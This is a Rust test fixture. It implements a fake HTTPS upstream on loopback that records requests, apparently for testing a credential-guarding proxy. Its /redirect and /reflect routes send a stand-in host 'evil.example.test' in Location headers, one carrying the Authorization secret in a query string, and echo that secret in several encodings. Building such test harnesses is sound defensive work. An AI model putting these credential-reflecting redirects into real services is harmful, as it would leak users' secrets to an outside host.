//! A fake HTTPS upstream on loopback that records every request it receives.

use std::collections::HashMap;
use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use futures_util::{SinkExt, StreamExt};
use http::{HeaderMap, Request, Response, StatusCode, Version};
use http_body_util::{BodyExt, Full, StreamBody, combinators::BoxBody};
use hyper::body::{Frame, Incoming};
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::server::conn::auto;
use rustls_pki_types::{CertificateDer, PrivateKeyDer};
use tokio::net::TcpListener;

type Body = BoxBody<Bytes, Infallible>;

/// One request as the upstream saw it.
#[derive(Clone, Debug)]
pub(crate) struct Recorded {
    pub method: String,
    pub path_and_query: String,
    pub headers: HeaderMap,
    pub body: Bytes,
    pub version: Version,
    pub sni: Option<String>,
    /// The common name of the client certificate the connection presented, if any.
    pub client_subject: Option<String>,
    /// Which TLS connection carried it (counted from 1 in the order they were accepted).
    pub connection: usize,
}

impl Recorded {
    pub(crate) fn header(&self, name: &str) -> Option<String> {
        self.headers
            .get(name)
            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
    }
}

/// Which protocols the upstream offers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Alpn {
    Both,
    H2Only,
    H1Only,
}

#[derive(Clone)]
pub(crate) struct FakeUpstream {
    pub addr: SocketAddr,
    recorded: Arc<Mutex<Vec<Recorded>>>,
    connections: Arc<std::sync::atomic::AtomicUsize>,
    /// `/gated` sends its first event, then waits for this before the rest.
    pub gate: Arc<tokio::sync::Notify>,
}

fn full(status: StatusCode, content_type: &str, body: impl Into<Bytes>) -> Response<Body> {
    Response::builder()
        .status(status)
        .header("content-type", content_type)
        .body(Full::new(body.into()).boxed())
        .unwrap()
}

fn query(q: Option<&str>) -> HashMap<String, String> {
    q.unwrap_or("")
        .split('&')
        .filter_map(|kv| kv.split_once('='))
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect()
}

/// What the upstream knows of the TLS connection a request came on.
#[derive(Clone)]
struct ConnInfo {
    sni: Option<String>,
    client_subject: Option<String>,
    id: usize,
}

/// The common name of a DER certificate's subject.
fn common_name(der: &[u8]) -> Option<String> {
    let (_, cert) = x509_parser::parse_x509_certificate(der).ok()?;
    let cn = cert.subject().iter_common_name().next()?;
    cn.as_str().ok().map(str::to_owned)
}

impl FakeUpstream {
    pub(crate) async fn start(
        chain: Vec<CertificateDer<'static>>,
        key: PrivateKeyDer<'static>,
        alpn: Alpn,
    ) -> Self {
        Self::start_requiring(chain, key, alpn, None).await
    }

    /// An upstream that, given `clients`, refuses any TLS client without a certificate signed
    /// by that CA, and records which certificate each connection presented.
    pub(crate) async fn start_requiring(
        chain: Vec<CertificateDer<'static>>,
        key: PrivateKeyDer<'static>,
        alpn: Alpn,
        clients: Option<&super::TestCa>,
    ) -> Self {
        let protocols: &[&[u8]] = match alpn {
            Alpn::Both => &[b"h2", b"http/1.1"],
            Alpn::H2Only => &[b"h2"],
            Alpn::H1Only => &[b"http/1.1"],
        };
        let acceptor = super::pki::tls_acceptor_requiring(chain, key, protocols, clients);
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let recorded = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let (rec, conns) = (recorded.clone(), connections.clone());
        let gate = Arc::new(tokio::sync::Notify::new());
        let gate2 = gate.clone();
        tokio::spawn(async move {
            loop {
                let Ok((tcp, _)) = listener.accept().await else {
                    return;
                };
                let id = conns.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
                let acceptor = acceptor.clone();
                let rec = rec.clone();
                let gate = gate2.clone();
                tokio::spawn(async move {
                    let Ok(tls) = acceptor.accept(tcp).await else {
                        return;
                    };
                    let session = tls.get_ref().1;
                    let conn = ConnInfo {
                        sni: session.server_name().map(str::to_owned),
                        client_subject: session
                            .peer_certificates()
                            .and_then(|chain| chain.first())
                            .and_then(|leaf| common_name(leaf)),
                        id,
                    };
                    let h2_only = alpn == Alpn::H2Only;
                    let svc = service_fn(move |req| {
                        let rec = rec.clone();
                        let conn = conn.clone();
                        let gate = gate.clone();
                        async move { Ok::<_, Infallible>(route(req, rec, conn, gate).await) }
                    });
                    let mut builder = auto::Builder::new(TokioExecutor::new());
                    if h2_only {
                        builder = builder.http2_only();
                    }
                    let _ = builder
                        .serve_connection_with_upgrades(TokioIo::new(tls), svc)
                        .await;
                });
            }
        });
        Self {
            addr,
            recorded,
            connections,
            gate,
        }
    }

    pub(crate) fn requests(&self) -> Vec<Recorded> {
        self.recorded.lock().unwrap().clone()
    }

    pub(crate) fn count(&self) -> usize {
        self.recorded.lock().unwrap().len()
    }

    pub(crate) fn last(&self) -> Recorded {
        self.recorded
            .lock()
            .unwrap()
            .last()
            .cloned()
            .expect("the upstream received no request")
    }

    pub(crate) fn clear(&self) {
        self.recorded.lock().unwrap().clear();
    }

    pub(crate) fn connections(&self) -> usize {
        self.connections.load(std::sync::atomic::Ordering::SeqCst)
    }
}

async fn route(
    mut req: Request<Incoming>,
    rec: Arc<Mutex<Vec<Recorded>>>,
    conn: ConnInfo,
    gate: Arc<tokio::sync::Notify>,
) -> Response<Body> {
    let path = req.uri().path().to_owned();
    let params = query(req.uri().query());
    let is_ws = path == "/ws";
    let on_upgrade = is_ws.then(|| hyper::upgrade::on(&mut req));
    let (parts, body) = req.into_parts();
    let body = if is_ws {
        Bytes::new()
    } else {
        body.collect()
            .await
            .map(|b| b.to_bytes())
            .unwrap_or_default()
    };
    let record = Recorded {
        method: parts.method.to_string(),
        path_and_query: parts
            .uri
            .path_and_query()
            .map(|p| p.to_string())
            .unwrap_or_default(),
        headers: parts.headers.clone(),
        body: body.clone(),
        version: parts.version,
        sni: conn.sni,
        client_subject: conn.client_subject,
        connection: conn.id,
    };
    rec.lock().unwrap().push(record.clone());
    match path.as_str() {
        "/echo" => {
            let headers: HashMap<String, String> = parts
                .headers
                .iter()
                .map(|(k, v)| {
                    (
                        k.to_string(),
                        String::from_utf8_lossy(v.as_bytes()).into_owned(),
                    )
                })
                .collect();
            let body = serde_json::json!({ "method": record.method, "path": record.path_and_query, "headers": headers });
            full(StatusCode::OK, "application/json", body.to_string())
        }
        "/echo-body" => full(StatusCode::OK, "application/octet-stream", body),
        // An upstream that keeps what it was sent (issue bodies, profile fields, access logs)
        // and shows it to whoever asks, over any name that reaches it.
        "/stored" => {
            let stored: Vec<String> = rec
                .lock()
                .unwrap()
                .iter()
                .map(|r| {
                    format!(
                        "{} {:?} {}",
                        r.path_and_query,
                        r.headers,
                        String::from_utf8_lossy(&r.body)
                    )
                })
                .collect();
            full(StatusCode::OK, "text/plain", stored.join("\n"))
        }
        "/reflect" => reflect(&parts.headers, &params),
        "/redirect" => Response::builder()
            .status(StatusCode::FOUND)
            .header("location", "https://evil.example.test/steal")
            .body(Full::new(Bytes::new()).boxed())
            .unwrap(),
        "/sse" => {
            let n: usize = params.get("n").and_then(|v| v.parse().ok()).unwrap_or(5);
            let interval: u64 = params
                .get("interval_ms")
                .and_then(|v| v.parse().ok())
                .unwrap_or(200);
            let stream = futures_util::stream::unfold(0usize, move |i| async move {
                if i >= n {
                    return None;
                }
                if i > 0 {
                    tokio::time::sleep(Duration::from_millis(interval)).await;
                }
                Some((
                    Ok::<_, Infallible>(Frame::data(Bytes::from(format!("data: event {i}\n\n")))),
                    i + 1,
                ))
            });
            Response::builder()
                .status(200)
                .header("content-type", "text/event-stream")
                .header("cache-control", "no-cache")
                .body(BodyExt::boxed(StreamBody::new(stream)))
                .unwrap()
        }
        "/gated" => {
            // `?reflect=1` puts the Authorization header into the first event.
            let first = match params.get("reflect") {
                Some(_) => Bytes::from(format!(
                    "data: {}\n\n",
                    record.header("authorization").unwrap_or_default()
                )),
                None => Bytes::from_static(b"data: first\n\n"),
            };
            let stream = futures_util::stream::unfold(0usize, move |i| {
                let gate = gate.clone();
                let first = first.clone();
                async move {
                    match i {
                        0 => Some((Ok::<_, Infallible>(Frame::data(first)), 1)),
                        1 => {
                            gate.notified().await;
                            Some((Ok(Frame::data(Bytes::from_static(b"data: second\n\n"))), 2))
                        }
                        _ => None,
                    }
                }
            });
            Response::builder()
                .status(200)
                .header("content-type", "text/event-stream")
                .body(BodyExt::boxed(StreamBody::new(stream)))
                .unwrap()
        }
        "/bytes" => {
            let n: usize = params.get("n").and_then(|v| v.parse().ok()).unwrap_or(1024);
            let chunk = Bytes::from(vec![b'x'; 64 * 1024]);
            let stream = futures_util::stream::unfold(n, move |left| {
                let chunk = chunk.clone();
                async move {
                    if left == 0 {
                        return None;
                    }
                    let take = left.min(chunk.len());
                    Some((
                        Ok::<_, Infallible>(Frame::data(chunk.slice(..take))),
                        left - take,
                    ))
                }
            });
            Response::builder()
                .status(200)
                .header("content-type", "application/octet-stream")
                .header("content-length", n.to_string())
                .body(BodyExt::boxed(StreamBody::new(stream)))
                .unwrap()
        }
        "/ws" => {
            let key = parts
                .headers
                .get("sec-websocket-key")
                .map(|k| k.as_bytes().to_vec())
                .unwrap_or_default();
            let accept = tokio_tungstenite::tungstenite::handshake::derive_accept_key(&key);
            if let Some(on_upgrade) = on_upgrade {
                let rec = rec.clone();
                let template = record.clone();
                tokio::spawn(async move {
                    let Ok(upgraded) = on_upgrade.await else {
                        return;
                    };
                    let mut ws = tokio_tungstenite::WebSocketStream::from_raw_socket(
                        TokioIo::new(upgraded),
                        tokio_tungstenite::tungstenite::protocol::Role::Server,
                        None,
                    )
                    .await;
                    while let Some(Ok(msg)) = ws.next().await {
                        if msg.is_text() {
                            // Frames are recorded as requests with method WS, body = the text.
                            let mut frame = template.clone();
                            frame.method = "WS".into();
                            frame.body = Bytes::from(msg.to_text().unwrap_or_default().to_owned());
                            rec.lock().unwrap().push(frame);
                        }
                        if msg.is_text() || msg.is_binary() {
                            if ws.send(msg).await.is_err() {
                                return;
                            }
                        } else if msg.is_close() {
                            return;
                        }
                    }
                });
            }
            Response::builder()
                .status(StatusCode::SWITCHING_PROTOCOLS)
                .header("upgrade", "websocket")
                .header("connection", "upgrade")
                .header("sec-websocket-accept", accept)
                .body(Full::new(Bytes::new()).boxed())
                .unwrap()
        }
        p if p.starts_with("/status/") => {
            let code = p.trim_start_matches("/status/").parse().unwrap_or(500);
            full(
                StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR),
                "text/plain",
                "status",
            )
        }
        _ => full(
            StatusCode::OK,
            "application/json",
            serde_json::json!({ "ok": true, "path": record.path_and_query }).to_string(),
        ),
    }
}

/// `/reflect`: an upstream that echoes the credential it received (the part of `Authorization`
/// after the scheme), the way error messages and debug endpoints do. `enc` picks the encoding,
/// `chunk` streams the body in frames of that many bytes, `gzip=1` compresses it, and `coding`
/// labels the body with a Content-Encoding the proxy cannot decode.
fn reflect(headers: &HeaderMap, params: &HashMap<String, String>) -> Response<Body> {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
    let auth = headers
        .get("authorization")
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
        .unwrap_or_default();
    let value = auth.split_once(' ').map(|(_, v)| v).unwrap_or(&auth);
    let pct = utf8_percent_encode(value, NON_ALPHANUMERIC).to_string();
    let text = match params.get("enc").map(String::as_str).unwrap_or("raw") {
        "b64" => STANDARD.encode(value),
        "b64url" => URL_SAFE_NO_PAD.encode(value),
        "b64header" => STANDARD.encode(&auth),
        "pct" => pct.clone(),
        "pct-lower" => {
            // Lower-case hex digits, the secret's own letters untouched.
            let mut out = String::new();
            let mut hex_left = 0;
            for c in pct.chars() {
                if c == '%' {
                    hex_left = 2;
                    out.push(c);
                } else if hex_left > 0 {
                    hex_left -= 1;
                    out.push(c.to_ascii_lowercase());
                } else {
                    out.push(c);
                }
            }
            out
        }
        "form" => pct.replace("%20", "+"),
        "json" => serde_json::to_string(value).unwrap(),
        "hex" => hex::encode(value),
        _ => value.to_owned(),
    };
    let mut body = format!(
        "{{\"error\":\"invalid api key\",\"detail\":\"the key {text} was not recognised\",\"header\":{}}}",
        serde_json::to_string(&auth).unwrap()
    )
    .into_bytes();
    let mut builder = Response::builder()
        .status(StatusCode::UNAUTHORIZED)
        .header("content-type", "application/json")
        .header("location", format!("https://evil.example.test/cb?k={pct}"))
        .header("x-debug-auth", auth.as_str());
    if params.contains_key("gzip") {
        use std::io::Write;
        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        enc.write_all(&body).unwrap();
        body = enc.finish().unwrap();
        builder = builder.header("content-encoding", "gzip");
    }
    if let Some(coding) = params.get("coding") {
        builder = builder.header("content-encoding", coding.as_str());
    }
    let chunk: usize = params
        .get("chunk")
        .and_then(|c| c.parse().ok())
        .unwrap_or(body.len().max(1));
    let frames: Vec<Result<Frame<Bytes>, Infallible>> = body
        .chunks(chunk)
        .map(|c| Ok(Frame::data(Bytes::copy_from_slice(c))))
        .collect();
    builder
        .body(BodyExt::boxed(StreamBody::new(futures_util::stream::iter(
            frames,
        ))))
        .unwrap()
}
